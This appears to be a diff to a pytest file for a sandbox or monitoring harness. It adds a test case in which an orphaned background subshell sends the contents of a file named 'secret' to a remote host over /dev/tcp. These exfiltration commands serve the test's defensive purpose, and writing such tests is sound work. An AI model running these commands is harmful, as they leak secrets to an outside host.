@@ -20,10 +20,14 @@ def test_program_goes_on(case, outcome):
 SUBSHELL = "x=$(tr '\\n' ' ' < secret); (echo first $x > /dev/tcp/remote/9; echo second $x > /dev/tcp/remote/9)"
 
 
-@pytest.mark.parametrize("case", [Case("subshell", SUBSHELL, "takeover")], ids=str)
+# Its parent ends while it is made.
+ORPHAN = SUBSHELL.replace("(echo", "((sleep 0.3; echo").replace("9)", "9) & ); sleep 2")
+
+
+@pytest.mark.parametrize("case", [Case("subshell", SUBSHELL, "takeover"), Case("orphan", ORPHAN, "takeover")], ids=str)
 def test_forked_child_goes_on(case, outcome):
     assert_scrubbed(outcome)
-    assert outcome.status == 0 and len(outcome.questions) == 1, outcome.describe()
+    assert outcome.status == 0 and len(outcome.questions) == 1 and not outcome.tainted, outcome.describe()
     assert b"first" in outcome.received and b"second" in outcome.received, outcome.describe()
 
 
